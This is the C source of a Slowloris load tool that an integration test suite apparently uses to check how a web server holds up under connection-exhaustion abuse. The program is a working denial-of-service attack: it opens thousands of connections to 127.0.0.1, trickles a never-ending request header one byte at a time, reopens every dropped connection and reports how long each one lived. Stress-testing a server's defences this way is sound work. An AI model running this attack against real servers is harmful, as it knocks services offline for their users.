/* slowloris.c - hold N connections to 127.0.0.1:PORT open, each trickling
 * one byte of a request head that never ends every INTERVAL ms, and reopen
 * every connection the server closes: the attack's steady state, cheap
 * enough (epoll, no per-byte timers) that on a small machine it leaves the
 * CPU to the server and the load generator being measured beside it.
 *
 *   slowloris PORT [CONNS=5000] [SECONDS=8] [INTERVAL_MS=1000]
 *
 * Prints "ready N" once N connections are open, then one JSON line:
 * opened, closed_by_server (EOF or reset), the lifetimes of those (connect
 * to close: min/median/p99/max seconds), the status codes received,
 * max_open, sends. Built by tests/integration/test_abuse.py on first use
 * (cc -O2 -o build/slowloris tests/tools/slowloris.c). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char head[] = "GET /users/1 HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";

struct sc {
	int fd;                 /* -1: free slot */
	double t_open;
	double next;            /* next byte due */
	unsigned sent;
	int status;             /* first status code seen, 0 = none */
};

static struct sc *conns;
static int nconns, nopen, ep, port;
static long opened, closed_srv, sends, connect_errors, max_open;
static double *life;
static long nlife, life_cap;
static long statuses[600];

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int open_one(int i)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct epoll_event ev = { .events = EPOLLIN | EPOLLRDHUP };
	int fd, rcv = 4096;

	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		connect_errors++;
		return -1;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcv, sizeof(rcv));
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 && errno != EINPROGRESS) {
		close(fd);
		connect_errors++;
		return -1;
	}
	ev.data.u32 = (uint32_t)i;
	epoll_ctl(ep, EPOLL_CTL_ADD, fd, &ev);
	conns[i].fd = fd;
	conns[i].t_open = now_s();
	conns[i].next = conns[i].t_open;
	conns[i].sent = 0;
	conns[i].status = 0;
	nopen++;
	opened++;
	return 0;
}

static void drop(int i, int by_server)
{
	struct sc *c = &conns[i];

	if (c->fd < 0)
		return;
	epoll_ctl(ep, EPOLL_CTL_DEL, c->fd, NULL);
	close(c->fd);
	c->fd = -1;
	nopen--;
	if (!by_server)
		return;
	closed_srv++;
	if (c->status > 0 && c->status < 600)
		statuses[c->status]++;
	if (nlife == life_cap) {
		life_cap = life_cap ? life_cap * 2 : 8192;
		life = realloc(life, (size_t)life_cap * sizeof(*life));
		if (!life)
			exit(1);
	}
	life[nlife++] = now_s() - c->t_open;
}

static int cmp_d(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

static double pct(double p)
{
	long k = (long)(p * (double)nlife);

	if (!nlife)
		return -1;
	if (k >= nlife)
		k = nlife - 1;
	return life[k];
}

int main(int argc, char **argv)
{
	double seconds, interval, t_end, now;
	struct epoll_event evs[256];
	struct rlimit rl;
	int ready = 0, i, n, k;
	char buf[4096];

	if (argc < 2) {
		fprintf(stderr, "usage: slowloris PORT [CONNS] [SECONDS] [INTERVAL_MS]\n");
		return 2;
	}
	port = atoi(argv[1]);
	nconns = argc > 2 ? atoi(argv[2]) : 5000;
	seconds = argc > 3 ? atof(argv[3]) : 8;
	interval = (argc > 4 ? atof(argv[4]) : 1000) / 1000.0;
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)nconns + 64) {
		rl.rlim_cur = rl.rlim_max < (rlim_t)nconns + 64 ? rl.rlim_max : (rlim_t)nconns + 64;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	conns = calloc((size_t)nconns, sizeof(*conns));
	ep = epoll_create1(EPOLL_CLOEXEC);
	if (!conns || ep < 0)
		return 1;
	for (i = 0; i < nconns; i++)
		conns[i].fd = -1;
	t_end = now_s() + seconds;
	while ((now = now_s()) < t_end) {
		/* (re)open, trickle: one pass over the slots */
		for (i = 0; i < nconns; i++) {
			struct sc *c = &conns[i];

			if (c->fd < 0) {
				if (open_one(i) < 0)
					break;
				continue;
			}
			if (c->next > now)
				continue;
			c->next = now + interval;
			if (send(c->fd, c->sent < sizeof(head) - 1 ? head + c->sent : "a", 1,
				 MSG_NOSIGNAL | MSG_DONTWAIT) == 1) {
				c->sent++;
				sends++;
			} else if (errno != EAGAIN && errno != ENOTCONN) {
				drop(i, 1);
			}
		}
		if (nopen > max_open)
			max_open = nopen;
		if (!ready && nopen >= nconns) {
			printf("ready %d\n", nopen);
			fflush(stdout);
			ready = 1;
		}
		n = epoll_wait(ep, evs, 256, 10);
		for (k = 0; k < n; k++) {
			i = (int)evs[k].data.u32;
			if (conns[i].fd < 0)
				continue;
			ssize_t r = recv(conns[i].fd, buf, sizeof(buf), MSG_DONTWAIT);

			if (r > 0) {
				if (!conns[i].status && r >= 12 && !memcmp(buf, "HTTP/1.1 ", 9))
					conns[i].status = atoi(buf + 9);
				if (!(evs[k].events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)))
					continue;
			} else if (r < 0 && errno == EAGAIN) {
				continue;
			}
			drop(i, 1);
		}
	}
	n = nopen;
	for (i = 0; i < nconns; i++)
		drop(i, 0);
	qsort(life, (size_t)nlife, sizeof(*life), cmp_d);
	printf("{\"opened\": %ld, \"closed_by_server\": %ld, \"still_open\": %d, \"max_open\": %ld, "
	       "\"sends\": %ld, \"connect_errors\": %ld, \"statuses\": {", opened, closed_srv, n,
	       max_open, sends, connect_errors);
	for (i = 0, k = 0; i < 600; i++)
		if (statuses[i])
			printf("%s\"%d\": %ld", k++ ? ", " : "", i, statuses[i]);
	printf("}, \"lifetime\": {\"min\": %.3f, \"median\": %.3f, \"p99\": %.3f, \"max\": %.3f}}\n",
	       pct(0), pct(0.5), pct(0.99), nlife ? life[nlife - 1] : -1.0);
	return 0;
}
